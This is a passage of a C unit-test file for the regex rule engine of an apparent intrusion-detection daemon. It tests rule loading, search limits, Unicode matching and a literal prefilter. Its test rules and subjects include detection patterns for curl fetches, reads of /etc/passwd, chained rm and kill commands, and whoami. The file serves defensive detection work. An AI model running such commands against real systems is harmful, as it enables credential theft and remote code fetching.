		"{}",
	};
	struct fx fx;
	struct tag_list tags;
	size_t i;

	fx_open(&fx, engine_configs[_i]);
	fx_add_rule(&fx, "TF001", "command", "command_text", "whoami|42|true",
	    "command_text");
	ck_assert_int_eq(fx_assign(&fx), 0);
	tag_list_init(&tags);
	for (i = 0; i < sizeof payloads / sizeof payloads[0]; i++) {
		fx_run_json(&fx, "command", payloads[i], &tags);
		ck_assert_msg(tags.n == 0, "tag on %s", payloads[i]);
	}
	fx_run_json(&fx, "command", "{\"command_text\": \"whoami\"}", &tags);
	ck_assert_int_eq((int)tags.n, 1);
	tag_list_free(&tags);
	fx_close(&fx);
}
END_TEST

/* A falsy or absent match.field means the event kind's default field. */
START_TEST(test_default_fields)
{
	static const struct {
		const char *kind, *field;
	} defaults[] = {
		{ "command", "command_text" },
		{ "http_request", "raw_url" },
		{ "auth_attempt", "username" },
		{ "payload", "payload_text" },
	};
	struct fx fx;
	size_t i;

	fx_open(&fx, engine_configs[_i]);
	fx_add_rule(&fx, "TD001", "command, http_request, auth_attempt, "
	    "payload", NULL, "needle", NULL);
	fx_add_rule(&fx, "TD002", "command, http_request, auth_attempt, "
	    "payload", "", "needle", NULL);
	/* no pattern at all: accepted, never fires */
	fx_add_yaml(&fx, "rule_id: TD003\nrule_version: 1\nname: x\n"
	    "applies_to: [command]\nmatch: {field: command_text}\n"
	    "emits: [{tactic: TA0007, technique_id: T1082, "
	    "confidence: 0.7}]\n");
	ck_assert_int_eq(fx_assign(&fx), 0);
	ck_assert_int_eq((int)fx.p->nrules, 3);
	for (i = 0; i < sizeof defaults / sizeof defaults[0]; i++) {
		ck_assert(fx_fires(&fx, defaults[i].kind, defaults[i].field,
		    "a needle here", "TD001"));
		ck_assert(fx_fires(&fx, defaults[i].kind, defaults[i].field,
		    "a needle here", "TD002"));
		ck_assert(!fx_fires(&fx, defaults[i].kind, "elsewhere",
		    "a needle here", "TD001"));
	}
	ck_assert(!fx_fires(&fx, "command", "command_text", "", "TD003"));
	ck_assert(!fx_fires(&fx, "command", "command_text", "anything",
	    "TD003"));
	fx_close(&fx);
}
END_TEST

START_TEST(test_max_subject_bytes)
{
	struct fx fx;

	fx_open(&fx, "{\"max_subject_bytes\": 16}");
	fx_add_rule(&fx, "TM001", "command", "command_text", "whoami", NULL);
	ck_assert_int_eq(fx_assign(&fx), 0);
	ck_assert(fx_fires(&fx, "command", "command_text",
	    "0123456789whoami", "TM001"));              /* 16 bytes */
	ck_assert(!fx_fires(&fx, "command", "command_text",
	    "0123456789 whoami", "TM001"));             /* 17 bytes */
	fx_close(&fx);
}
END_TEST

START_TEST(test_bad_config)
{
	static const char *const bad[] = {
		"{\"match_limit\": 0}",
		"{\"depth_limit\": -1}",
		"{\"heap_limit_kib\": 5000000000}",
		"{\"max_subject_bytes\": 0}",
		"{\"search_time_limit_ms\": -1}",
		"{\"search_time_limit_ms\": 86400001}",
		"{\"search_time_limit_ms\": \"1s\"}",
		"{\"jit\": \"yes\"}",
		"{\"profile\": 1}",
	};
	struct registry reg;
	struct plugin_conf pc;
	char err[1024], *dir = plugins_dir();
	size_t i;

	for (i = 0; i < sizeof bad / sizeof bad[0]; i++) {
		ttpd_value *config = jv_parse(bad[i], strlen(bad[i]), err,
		    sizeof err);

		ck_assert(config != NULL);
		registry_init(&reg);
		memset(&pc, 0, sizeof pc);
		pc.name = (char *)"rule_engine";
		pc.config = config;
		pc.origin = (char *)"check_rule_engine:1";
		err[0] = '\0';
		ck_assert_msg(loader_load(&reg, dir, &pc, err, sizeof err) ==
		    -1, "accepted %s", bad[i]);
		ck_assert_msg(err[0] != '\0', "no message for %s", bad[i]);
		registry_free(&reg);
		jv_decref(config);
	}
	free(dir);
}
END_TEST

/* ---- rule preparation ---- */

START_TEST(test_invalid_pattern_rejected)
{
	struct fx fx;

	fx_open(&fx, engine_configs[_i]);
	fx_add_rule(&fx, "TP001", "command", "command_text", "(unclosed",
	    NULL);
	fx_add_rule(&fx, "TP002", "command", "command_text", "a{2,1}", NULL);
	fx_add_rule(&fx, "TP003", "command", "command_text", "fine", NULL);
	ck_assert_int_eq(fx_assign(&fx), 2);
	ck_assert_int_eq(fx.nreports, 2);
	ck_assert_msg(strstr(fx.reports, "rule TP001: rejected by plugin "
	    "rule_engine: pattern: missing closing parenthesis at offset 9")
	    != NULL, "%s", fx.reports);
	ck_assert_msg(strstr(fx.reports, "rule TP002: rejected by plugin "
	    "rule_engine: pattern: numbers out of order in {} quantifier at "
	    "offset 5") != NULL, "%s", fx.reports);
	/* the good rule still works */
	ck_assert_int_eq((int)fx.p->nrules, 1);
	ck_assert(fx_fires(&fx, "command", "command_text", "fine", "TP003"));
	fx_close(&fx);
}
END_TEST

/* ---- limits ---- */

/* Run fn with stderr going to a file; returns what was written. */
static char *
capture_stderr(void (*fn)(void *), void *ud)
{
	char *dir = tu_mkdtemp(), path[512], *text;
	int fd, saved;

	snprintf(path, sizeof path, "%s/stderr", dir);
	fflush(stderr);
	saved = dup(2);
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	ck_assert(saved >= 0 && fd >= 0);
	dup2(fd, 2);
	close(fd);
	fn(ud);
	fflush(stderr);
	dup2(saved, 2);
	close(saved);
	text = tu_read_file(path, NULL);
	ck_assert(text != NULL);
	tu_rmtree(dir);
	free(dir);
	return text;
}

static size_t
count_of(const char *hay, const char *needle)
{
	size_t n = 0;

	while ((hay = strstr(hay, needle)) != NULL) {
		n++;
		hay += strlen(needle);
	}
	return n;
}

struct catastrophic {
	struct fx *fx;
	char *subject;
	int fired;
};

static void
run_catastrophic(void *ud)
{
	struct catastrophic *c = ud;

	/* twice: the second complaint is rate-limited away */
	c->fired += fx_fires(c->fx, "command", "command_text", c->subject,
	    "TL001");
	c->fired += fx_fires(c->fx, "command", "command_text", c->subject,
	    "TL001");
	c->fired += fx_fires(c->fx, "command", "command_text", c->subject,
	    "TL002");
}

START_TEST(test_catastrophic_pattern)
{
	struct catastrophic c;
	struct fx fx;
	char *log;

	fx_open(&fx, engine_configs[_i]);
	fx_add_rule(&fx, "TL001", "command", "command_text", "(a+)+$", NULL);
	fx_add_rule(&fx, "TL002", "command", "command_text", "(a|aa)+$",
	    NULL);
	fx_add_rule(&fx, "TL003", "command", "command_text", "b$", NULL);
	ck_assert_int_eq(fx_assign(&fx), 0);
	c.fx = &fx;
	c.fired = 0;
	c.subject = malloc(30002);
	ck_assert(c.subject != NULL);
	memset(c.subject, 'a', 30000);
	strcpy(c.subject + 30000, "b");
	log = capture_stderr(run_catastrophic, &c);
	ck_assert_int_eq(c.fired, 0);
	ck_assert_msg(count_of(log, "rule TL001: search abandoned") == 1,
	    "%s", log);
	ck_assert_msg(count_of(log, "rule TL002: search abandoned") == 1,
	    "%s", log);
	ck_assert_msg(strstr(log, "limit") != NULL, "%s", log);
	free(log);
	/* the other rule on the same event is unaffected */
	ck_assert(fx_fires(&fx, "command", "command_text", c.subject,
	    "TL003"));
	/* and a harmless subject still matches the limited rules */
	ck_assert(fx_fires(&fx, "command", "command_text", "aaaa", "TL001"));
	free(c.subject);
	fx_close(&fx);
}
END_TEST

/* The long subjects of test_search_time_limit. */
struct timed {
	struct fx *fx;
	char *crafted, *matching;
	int crafted_fired, matching_fired;
};

static void
run_timed(void *ud)
{
	struct timed *t = ud;

	t->crafted_fired = fx_fires(t->fx, "command", "command_text",
	    t->crafted, "TT001");
	t->matching_fired = fx_fires(t->fx, "command", "command_text",
	    t->matching, "TT001");
}

/*
 * A pattern whose every attempt runs on to the end of the line takes
 * time quadratic in its length: on "curl x " repeated 30,000 times and
 * ";http://" it would run for seconds.  A long subject is searched a
 * window of start offsets at a time, and the searches of an event are
 * abandoned once they have taken search_time_limit_ms together; a match
 * found in time still counts, and a pattern with \G, whose matches
 * depend on where a search starts, is searched in one piece.
 */
START_TEST(test_search_time_limit)
{
	static const char *const configs[] = {
		"{\"search_time_limit_ms\": 1}",
		"{\"search_time_limit_ms\": 1, \"jit\": false}",
	};
	static const char unit[] = "curl x ";
	const size_t reps = 30000, len = reps * (sizeof unit - 1);
	struct timed t;
	struct fx fx;
	char *log, *anchored;
	size_t i;

	fx_open(&fx, configs[_i]);
	fx_add_rule(&fx, "TT001", "command", "command_text",
	    "\\bcurl\\s+(?:\\S+\\s+)*https?://", NULL);
	fx_add_rule(&fx, "TT002", "command", "command_text", "\\Gb", NULL);
	/* cheap, but its field is long: windowed too */
	fx_add_rule(&fx, "TT003", "command", "command_text",
	    "\\bcurl\\s+https?://", NULL);
	ck_assert_int_eq(fx_assign(&fx), 0);
	t.fx = &fx;
	t.crafted = malloc(len + 16);
	t.matching = malloc(len + 16);
	anchored = malloc(200001);
	ck_assert(t.crafted != NULL && t.matching != NULL &&
	    anchored != NULL);
	for (i = 0; i < reps; i++)
		memcpy(t.crafted + i * (sizeof unit - 1), unit,
		    sizeof unit - 1);
	memcpy(t.matching, t.crafted, len);
	strcpy(t.crafted + len, ";http://");
	strcpy(t.matching + len, "http://");
	log = capture_stderr(run_timed, &t);
	ck_assert_int_eq(t.crafted_fired, 0);
	ck_assert_int_eq(t.matching_fired, 1);
	/* TT003, searched after TT001, finds the event's time spent:
	 * its own search would be quick */
	ck_assert_msg(count_of(log, "rule TT001: search abandoned") == 1 &&
	    count_of(log, "rule TT003: search abandoned") == 1 &&
	    strstr(log, "search_time_limit_ms (1) exceeded") != NULL, "%s",
	    log);
	free(log);
	/* windows would start at offsets inside the b's, where \G holds */
	memset(anchored, 'a', 100000);
	memset(anchored + 100000, 'b', 100000);
	anchored[200000] = '\0';
	ck_assert(!fx_fires(&fx, "command", "command_text", anchored,
	    "TT002"));
	ck_assert(fx_fires(&fx, "command", "command_text", anchored + 100000,
	    "TT002"));
	free(anchored);
	free(t.crafted);
	free(t.matching);
	fx_close(&fx);
}
END_TEST

static void
run_close(void *ud)
{
	fx_close(ud);
}

/*
 * profile = true: when the plugin stops, every rule that was searched is
 * listed, costliest first, with its searches and matches; a rule whose
 * literals never occurred is not, and a rule replaced under the same id
 * keeps counting.
 */
START_TEST(test_profile)
{
	static const char *const configs[] = {
		"{\"profile\": true}",
		"{\"profile\": true, \"prefilter\": false}",
	};
	struct fx fx;
	char *log, line[256];
	int saved_level;

	fx_open(&fx, configs[_i]);
	fx_add_rule(&fx, "TP001", "command", "command_text",
	    "\\bcurl\\s+https?://", NULL);
	fx_add_rule(&fx, "TP002", "command", "command_text",
	    "\\bzzqzz\\b", NULL);
	ck_assert_int_eq(fx_assign(&fx), 0);
	ck_assert(fx_fires(&fx, "command", "command_text",
	    "curl http://x", "TP001"));
	/* the literals occur, the pattern does not */
	ck_assert(!fx_fires(&fx, "command", "command_text",
	    "curl ftp http://x", "TP001"));
	fx_swap_rule(&fx, "TP001", "\\bcurl\\s+-\\w*O\\s+https?://");
	ck_assert(fx_fires(&fx, "command", "command_text",
	    "curl -sO https://x", "TP001"));
	saved_level = log_level();
	log_set_level(TTPD_LOG_NOTICE);        /* the table's level */
	log = capture_stderr(run_close, &fx);
	log_set_level(saved_level);
	ck_assert_msg(strstr(log, "profile: events=3 scan_ms=") !=
	    NULL, "%s", log);
	snprintf(line, sizeof line, " rules=%d\n", _i == 0 ? 1 : 2);
	ck_assert_msg(strstr(log, line) != NULL, "%s", log);
	ck_assert_msg(count_of(log, "profile: rule=TP001 searches=3 "
	    "matched=2 ") == 1, "%s", log);
	/* without the prefilter TP002 is searched, and fails, every time */
	ck_assert_msg(count_of(log, "profile: rule=TP002 searches=3 "
	    "matched=0 ") == (_i == 0 ? 0 : 1), "%s", log);
	free(log);
}
END_TEST

/*
 * A tail absent from a subject spares the whole pattern's search: here
 * one that backtracks past the match limit, which the plain loop (no
 * prefilter) runs into and the prefilter does not.
 */
START_TEST(test_tail_spares_search)
{
	struct catastrophic c;
	struct fx fx;
	char *log;
	int prefilter = engine_configs[_i] == NULL ||
	    strstr(engine_configs[_i], "\"prefilter\": false") == NULL;

	fx_open(&fx, engine_configs[_i]);
	fx_add_rule(&fx, "TL001", "command", "command_text",
	    "(a|aa|b)+qzx\\d", NULL);
	fx_add_rule(&fx, "TL002", "command", "command_text", "zzz", NULL);
	ck_assert_int_eq(fx_assign(&fx), 0);
	c.fx = &fx;
	c.fired = 0;
	c.subject = malloc(30006);
	ck_assert(c.subject != NULL);
	memset(c.subject, 'a', 30000);
	strcpy(c.subject + 30000, " qzx.");
	log = capture_stderr(run_catastrophic, &c);
	ck_assert_int_eq(c.fired, 0);
	ck_assert_msg(count_of(log, "rule TL001: search abandoned") ==
	    (prefilter ? 0 : 1), "%s", log);
	free(log);
	ck_assert(fx_fires(&fx, "command", "command_text", "abaqzx1",
	    "TL001"));
	free(c.subject);
	fx_close(&fx);
}
END_TEST

/* ---- Unicode (Python str semantics: UTF + UCP) ---- */

struct uni {
	const char *pattern;
	const char *text;
	int fires;
};

static const struct uni unicode_cases[] = {
	{ "(?i)ssh", "\xc5\xbf\xc5\xbfh", 1 },          /* U+017F long s */
	{ "ssh", "\xc5\xbf\xc5\xbfh", 0 },              /* case-sensitive */
	{ "(?i)\\bkill\\b", "\xe2\x84\xaaILL -9", 1 },  /* U+212A Kelvin */
	{ "(?i)passwd", "PA\xc5\xbfSWD", 1 },
	{ "^\\w+$", "caf\xc3\xa9", 1 },                 /* e-acute is \w */
	{ "caf\\b", "caf\xc3\xa9", 0 },                 /* so no boundary */
	{ "a\\sb", "a\xc2\xa0" "b", 1 },                /* NBSP is \s */
	{ "a\\sb", "a\xe2\x80\x83" "b", 1 },            /* EM SPACE */
	{ "^.{4}$", "\xf0\x9f\x98\x80\xc3\xa9x\xe2\x82\xac", 1 }, /* chars */
	{ "(?i)\xc3\xa9t\xc3\xa9", "\xc3\x89T\xc3\x89", 1 }, /* E-acute */
};

START_TEST(test_unicode)
{
	struct fx fx;
	size_t i;

	for (i = 0; i < sizeof unicode_cases / sizeof unicode_cases[0];
	    i++) {
		const struct uni *u = &unicode_cases[i];
		char yaml[1024];

		fx_open(&fx, engine_configs[_i]);
		/* single-quoted YAML keeps the backslashes */
		snprintf(yaml, sizeof yaml, "rule_id: TU001\nrule_version: 1\n"
		    "name: u\napplies_to: [command]\nmatch:\n"
		    "  field: command_text\n  pattern: '%s'\n"
		    "emits: [{tactic: TA0007, technique_id: T1082, "
		    "confidence: 0.7}]\n", u->pattern);
		fx_add_yaml(&fx, yaml);
		ck_assert_int_eq(fx_assign(&fx), 0);
		ck_assert_msg(fx_fires(&fx, "command", "command_text",
		    u->text, "TU001") == u->fires, "config %d: /%s/ on "
		    "case %zu should %s", _i, u->pattern, i,
		    u->fires ? "match" : "not match");
		fx_close(&fx);
	}
}
END_TEST

/* ---- the prefilter on its own ---- */

static char *
literals_joined(const char *pattern, int *rc)
{
	struct pf_literals lits;
	char *out = calloc(1, 4096);
	size_t i;

	ck_assert(out != NULL);
	*rc = pf_extract(pattern, strlen(pattern), &lits);
	for (i = 0; i < lits.n; i++) {
		strcat(out, i ? "|" : "");
		strcat(out, lits.v[i]);
	}
	pf_literals_free(&lits);
	return out;
}

/* Items of a concatenation, as "text" or "text*" (unbounded), joined
 * by spaces; "-" when the reader refuses the pattern. */
static void
items_of(const char *pattern, char *buf, size_t cap)
{
	struct ps_item items[32];
	size_t len = strlen(pattern), lead = ps_lead_len(pattern, len), n, i;

	n = ps_concat_items(pattern, lead, len, items, 32);
	snprintf(buf, cap, "%s", n == 0 ? "-" : "");
	for (i = 0; i < n; i++)
		snprintf(buf + strlen(buf), cap - strlen(buf), "%s%.*s%s",
		    i ? " " : "", (int)(items[i].end - items[i].start),
		    pattern + items[i].start, items[i].unbounded ? "*" : "");
}

START_TEST(test_pattern_items)
{
	static const struct {
		const char *pattern, *items;
	} cases[] = {
		{ "ab", "a b" },
		{ "(?i)a+b?", "a+* b?" },
		{ "\\bcurl\\b[^;]*x{2,}y{1,3}", "\\b c u r l \\b [^;]** x{2,}* y{1,3}" },
		{ "(?:a|b)*?c++", "(?:a|b)*?* c++*" },
		{ "[]a]\\x{41}\\x41\\p{L}\\pL", "[]a] \\x{41} \\x41 \\p{L} \\pL" },
		{ "(?<=/)(a(b)[)])\xc3\xa9", "(?<=/) (a(b)[)]) \xc3\xa9" },
		{ "[[:alpha:]]z", "[[:alpha:]] z" },
		/* refused */
		{ "a|b", "-" },
		{ "(?x)a b", "-" },
		{ "a(?i)b", "-" },
		{ "a(?ix:b)", "-" },
		{ "\\Qa\\E", "-" },
		{ "(*UTF)a", "-" },
		{ "a(?#c)", "-" },
		{ "a{,3}", "-" },
		{ "a{x}", "-" },
		{ "*a", "-" },
		{ "(a", "-" },
		{ "[a", "-" },
		{ "a)", "-" },
		{ "", "-" },
	};
	char buf[256];
	size_t i;

	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		items_of(cases[i].pattern, buf, sizeof buf);
		ck_assert_msg(strcmp(buf, cases[i].items) == 0,
		    "/%s/: got '%s', want '%s'", cases[i].pattern, buf,
		    cases[i].items);
	}
	ck_assert_uint_eq(ps_lead_len("(?i)(?-s)a", 10), 9);
	ck_assert_uint_eq(ps_lead_len("(?i:a)", 6), 0);
	ck_assert_uint_eq(ps_lead_len("(?x)a", 5), 0);
}
END_TEST

START_TEST(test_pattern_drop_carets)
{
	static const struct {
		const char *pattern, *without;  /* "" when refused */
	} cases[] = {
		{ "(?:^|;)a", "(?:;)a" },
		{ "(?:;|^)a", "(?:;)a" },
		{ "^|a", "a" },
		{ "x(?:^|[;&|(])y|z", "x(?:[;&|(])y|z" },
		{ "(?:[^^|]|^|a)", "(?:[^^|]|a)" },
		{ "(?i)(?<n>^|;)\\1", "(?i)(?<n>;)\\1" },
		{ "(?<!a)(?:^|b)", "(?<!a)(?:b)" },
		{ "a", "" },                    /* nothing to drop */
		{ "(?:^)a", "" },
		{ "\\^|a", "" },
		{ "[|^|]a", "" },
		{ "(?m)(?:^|;)a", "" },         /* ^ is every line start */
		{ "(?:^|;)(?im:a)", "" },
		{ "(?<=^|;)a", "" },            /* a lookbehind reaches 0 */
		{ "(?<=(?:^|;)b)a", "" },
		{ "(?:^|;)a)", "" },
		{ "(?x)(?:^|;)a", "" },
	};
	char out[64];
	size_t i, n;

	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		n = ps_drop_caret_alternatives(cases[i].pattern,
		    strlen(cases[i].pattern), out);
		ck_assert_msg(n == strlen(cases[i].without) &&
		    memcmp(out, cases[i].without, n) == 0, "/%s/: got '%.*s', "
		    "want '%s'", cases[i].pattern, (int)n, out,
		    cases[i].without);
	}
}
END_TEST

/* The most characters each item's shortest match can need. */
START_TEST(test_pattern_shortest)
{
	static const char pattern[] =
	    "a+b{3}c?(?:xy)\\b(?=z)(?<!w)[0-9]*\\1\\d{2,}^";
	static const size_t shortest[] = {
		1, 3, 0, PS_LONG, 0, 0, 0, 0, 0, 2, 0,
	};
	struct ps_item items[16];
	size_t i, n = ps_concat_items(pattern, 0, strlen(pattern), items, 16);

	ck_assert_uint_eq(n, sizeof shortest / sizeof shortest[0]);
	for (i = 0; i < n; i++)
		ck_assert_msg(items[i].shortest == shortest[i], "item %zu: %zu",
		    i, items[i].shortest);
}
END_TEST

START_TEST(test_pattern_group_refs)
{
	static const char *const refer[] = {
		"(a)\\1", "(a)\\g{1}", "(a)\\g-1", "(?<n>a)\\k<n>",
		"(?P<n>a)(?P=n)", "(?P<n>a)(?P>n)", "(a)(?1)", "(a)(?-1)",
		"(a)(?+1)", "(?<n>a)(?&n)", "a(?R)?", "(a)?(?(1)b|c)",
	};
	static const char *const plain[] = {
		"\\\\1", "(?-i)a", "(?i)a", "[\\d]", "a\\0", "(?:a)(?=b)",
		"(?<=a)(?<!b)",
	};
	size_t i;

	for (i = 0; i < sizeof refer / sizeof refer[0]; i++)
		ck_assert_msg(ps_refers_to_groups(refer[i], strlen(refer[i])),
		    "%s", refer[i]);
	for (i = 0; i < sizeof plain / sizeof plain[0]; i++)
		ck_assert_msg(!ps_refers_to_groups(plain[i], strlen(plain[i])),
		    "%s", plain[i]);
}
END_TEST

/* \G, and what only looks like it (an escaped backslash, then G). */
static int
has_g(const char *text)
{
	return ps_has_start_anchor(text, strlen(text));
}

static int
refers(const char *text)
{
	return ps_refers_to_groups(text, strlen(text));
}

START_TEST(test_pattern_start_anchor)
{
	ck_assert(ps_has_start_anchor("\\Gb", 3));
	ck_assert(ps_has_start_anchor("a|x\\G", 5));
	ck_assert(!ps_has_start_anchor("a\\\\Gb", 5));
	ck_assert(!ps_has_start_anchor("\\bG", 3));
	/* what is not read may be one */
	ck_assert(has_g("G\\"));
	ck_assert(has_g("a\\Qb\\E"));
	ck_assert(!has_g("[G\\]]\\b"));
	/* group references, and what only looks like one in a class */
	ck_assert(refers("(a)\\1"));
	ck_assert(refers("(?<n>a)\\k<n>"));
	ck_assert(refers("(a)(?1)"));
	ck_assert(!refers("[\\1(?1]x"));
	ck_assert(!refers("\\\\1"));
}
END_TEST

/*
 * The alternatives of a leading group, each to be compiled with the rest
 * of the pattern: "lead|alt|...|rest" is what the spans and *rest give,
 * or "" when the pattern is not of that shape.
 */
START_TEST(test_pattern_leading_alternatives)
{
	static const struct {
		const char *pattern, *want;
	} cases[] = {
		{ "(?:^|[;&|])\\s*id\\b", "|^|[;&|]|\\s*id\\b" },
		{ "(?i)(?:a|b(?=c))x", "(?i)|a|b(?=c)|x" },
		{ "(?:a|(?:b|c))d", "|a|(?:b|c)|d" },
		{ "(?:a|[)|]|\\))d", "|a|[)|]|\\)|d" },
		{ "(?:a|b)", "|a|b|" },
		{ "(?:ab)c", "" },              /* one alternative */
		{ "(?:a|b)+c", "" },            /* quantified */
		{ "(?:a|b){2}c", "" },
		{ "(?:a|(b))c", "" },           /* captures */
		{ "(?:a|(?<n>b))c", "" },       /* names */
		{ "(?:a|b)c|d", "" },           /* the rest has a | */
		{ "(?:a|\\Qb|\\E)c", "" },      /* \Q...\E is not read */
		{ "(a|b)c", "" },
		{ "x(?:a|b)", "" },
		{ "(?:a|b", "" },
	};
	struct ps_span alts[8];
	char got[256];
	size_t i, k, n, rest, len, lead;

	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		const char *pat = cases[i].pattern;

		len = strlen(pat);
		got[0] = '\0';
		n = ps_leading_alternatives(pat, len, alts, 8, &rest);
		if (n > 0) {
			lead = ps_lead_len(pat, len);
			snprintf(got, sizeof got, "%.*s|", (int)lead, pat);
			for (k = 0; k < n; k++)
				snprintf(got + strlen(got), sizeof got -
				    strlen(got), "%.*s|", (int)(alts[k].end -
				    alts[k].start), pat + alts[k].start);
			snprintf(got + strlen(got), sizeof got - strlen(got),
			    "%s", pat + rest);
		}
		ck_assert_msg(strcmp(got, cases[i].want) == 0,
		    "%s: got '%s', want '%s'", pat, got, cases[i].want);
	}
	/* more alternatives than max: not split */
	ck_assert_uint_eq(ps_leading_alternatives("(?:a|b|c)d", 10, alts, 2,
	    &rest), 0);
}
END_TEST

START_TEST(test_pf_extract)
{
	static const struct {
		const char *pattern;
		int rc;
		const char *literals;
	} cases[] = {
		{ "\\b(cat|less)\\s+(?:[^|;]*\\s)?/etc/passwd\\b", 1,
		    "/etc/passwd" },
		{ "(?i)Foo", 1, "foo" },
		{ "ab?c", 1, "abc|ac" },
		{ "ab*c", 1, "a" },             /* "a", "c": first kept */
		{ "abc*", 1, "ab" },
		{ "(?:ab){2,}x", 1, "ab" },
		{ "a|bc", 1, "a|bc" },
		{ "a|.", 0, "" },               /* one branch knows nothing */
		{ "x(?=abc)y", 1, "xy" },       /* lookahead consumes nothing */
		{ "\\$\\{", 1, "${" },
		{ "\\${[^}]*}", 1, "${" },      /* literal braces */
		{ "a{3}", 1, "a" },
		{ "^$", 0, "" },
		{ "", 0, "" },
		{ ".*", 0, "" },
		{ "[abc]+", 0, "" },
		{ "(?#note)word", 1, "word" },
		{ "(?<name>abc)", 1, "abc" },
		{ "(?P<n>abc)d", 1, "abcd" },
		{ "(?i:AB)c", 1, "abc" },
		{ "[]x]yz", 1, "yz" },
		{ "[[:alpha:]]yz", 1, "yz" },
		/* \1-\9: a backreference, unknown text */
		{ "(a)\\1", 1, "a" },
		{ "(\\w+);rm \\1", 1, ";rm " },
		/* not understood: give up */
		{ "a{,3}b", 0, "" },
		{ "a{ 2}b", 0, "" },
		{ "\\x41bc", 0, "" },
		{ "(a\\d)\\10", 0, "" },     /* backreference or octal? */
		{ "(?x) a b c", 0, "" },
		{ "\\Qabc\\E", 0, "" },
		{ "(?(1)a|b)", 0, "" },
		{ "(*UCP)abc", 0, "" },
		{ "caf\xc3\xa9", 0, "" },
		{ "\\p{L}abc", 0, "" },
		{ "a(?R)?b", 0, "" },
		{ "ab)", 0, "" },
	};
	size_t i;

	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		int rc;
		char *got = literals_joined(cases[i].pattern, &rc);

		ck_assert_msg(rc == cases[i].rc, "/%s/: rc %d",
		    cases[i].pattern, rc);
		ck_assert_msg(strcmp(got, cases[i].literals) == 0,
		    "/%s/: got '%s', want '%s'", cases[i].pattern, got,
		    cases[i].literals);
		free(got);
	}
}
END_TEST

/* Literals with their boundary flags: "<" for PF_LB, ">" for PF_RB. */
static char *
literals_with_flags(const char *pattern, int *rc)
{
	struct pf_literals lits;
	char *out = calloc(1, 4096);
	size_t i;

	ck_assert(out != NULL);
	*rc = pf_extract(pattern, strlen(pattern), &lits);
	for (i = 0; i < lits.n; i++) {
		strcat(out, i ? "|" : "");
		strcat(out, lits.flags[i] & PF_LB ? "<" : "");
		strcat(out, lits.v[i]);
		strcat(out, lits.flags[i] & PF_RB ? ">" : "");
	}
	pf_literals_free(&lits);
	return out;
}

START_TEST(test_pf_extract_boundaries)
{
	static const struct {
		const char *pattern;
		const char *literals;
	} cases[] = {
		{ "\\bid\\b", "<id>" },
		{ "\\b(?:id|w)(?=\\s|$|[;&|)`>])", "<id>|<w>" },
		{ "(?:x|y)*(?:id|who)(?=\\s|$)", "id>|who>" },
		{ "(?<![\\w.])rm(?![\\w.-])", "<rm>" },
		{ "^cat\\s", "<cat>" },      /* \\s: not a word char */
		{ "^cat\\s?", "<cat" },       /* may be followed by one */
		{ "^cat\\s*", "<cat" },
		{ "cat\\s+?x", "cat>" },
		{ "[;&|]+cat[ \\t]", "<cat>" },
		{ "[;&|a]cat", "cat" },         /* a class with a word char */
		{ "[^a]cat", "cat" },           /* a negated class */
		{ "\\Scat\\S", "cat" },
		{ "\\.cat\\s+", ".cat>" },     /* \\. is part of the literal */
		{ "\\b/etc/passwd\\b", "/etc/passwd>" },   /* \\b before / */
		{ "(?=a)id", "id" },            /* proves nothing */
		{ "(?![a-z])id", "id" },        /* digits and _ remain */
		{ "\\bid|idx", "<id|idx" },
		{ "\\bid|id", "id" },          /* the weaker one wins */
		{ "\\Bid\\B", "id" },
		{ "\\bnetstat_long_literal\\b", "<netstat_long_literal>" },
		/* PF_LB from the items before a literal: separators,
		 * whitespace, optional command prefixes and paths all end
		 * at a non-word character, or at ^ */
		{ "(?:^|[;&|])\\s*(?:sudo\\s+)?(?:id|w)\\b", "<id>|<w>" },
		{ "(?:^|;)\\s*(?:[\\w.-]*/)*(?:id|w)(?=\\s|$)",
		    "<id>|<w>" },
		{ "(?:;|\\$\\()\\s*id", "<id" },
		{ "\\A(?:\\S*/)?id\\b", "<id>" },
		{ "(?m)^\\s*id", "<id" },
		{ "(?i)(?:^|;)\\s*ID\\b", "<id>" },
		{ "(?:sudo\\s+)*\\s+id", "<id" },   /* \\s+ after it */
		/* too many strings to join: a run of its own, still marked */
		{ "(?:^|;)(?:aa|bb|cc|dd|ee|ff|gg|hh|ii)",
		    "<aa|<bb|<cc|<dd|<ee|<ff|<gg|<hh|<ii" },
		/* nothing proven before the literal */
		{ "(?:^|;|a)\\s*id\\b", "id>" },    /* a branch ends in a */
		{ "(?:;|\\d)\\s*id", "id" },
		{ ";?\\s*id\\b", "id>" },           /* may start at id */
		{ "(?:sudo\\s+)*id\\b", "id>" },
		{ "(?:;|(?=x))id", ";id|id" },  /* nothing before id */
		{ ";\\s*\\S*id", "id" },
		{ ";(?:x/)?[a-z]?id", "id" },
	};
	size_t i;

	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		int rc;
		char *got = literals_with_flags(cases[i].pattern, &rc);

		ck_assert_msg(rc == 1, "/%s/: rc %d", cases[i].pattern, rc);
		ck_assert_msg(strcmp(got, cases[i].literals) == 0,
		    "/%s/: got '%s', want '%s'", cases[i].pattern, got,
		    cases[i].literals);
		free(got);
	}
}
END_TEST

/*
 * pf_scan_ends() with the ends apart: hits (cleared first), and first[id]
 * and last[id] for every set hit (either may be NULL; both have room for
 * pf_hit_words(a) * 64 entries, as hits has for pf_hit_words(a)).
 */
static void
scan_bounds(struct pf_automaton *a, const char *s, size_t n, uint64_t *hits,
    size_t *first, size_t *last)
{
	size_t words = pf_hit_words(a), id;
	struct pf_ends *ends = calloc(words * 64, sizeof *ends);

	ck_assert(ends != NULL);
	memset(hits, 0, words * sizeof *hits);
	pf_scan_ends(a, (const unsigned char *)s, n, hits, ends);
	for (id = 0; id < words * 64; id++) {
		if (!(hits[id >> 6] >> (id & 63) & 1))
			continue;
		if (first != NULL)
			first[id] = ends[id].first;
		if (last != NULL)
			last[id] = ends[id].last;
	}
	free(ends);
}

/* The sets of pf_scan_ends() alone. */
static void
scan_hits(struct pf_automaton *a, const char *s, size_t n, uint64_t *hits)
{
	scan_bounds(a, s, n, hits, NULL, NULL);
}

/* Boundary flags in the scan: "id" as a word, not inside one. */
START_TEST(test_pf_scan_boundaries)
{
	static const struct {
		const char *subject;
		int hit;
	} cases[] = {
		{ "id", 1 }, { "id -u", 1 }, { "x;id", 1 }, { "(id)", 1 },
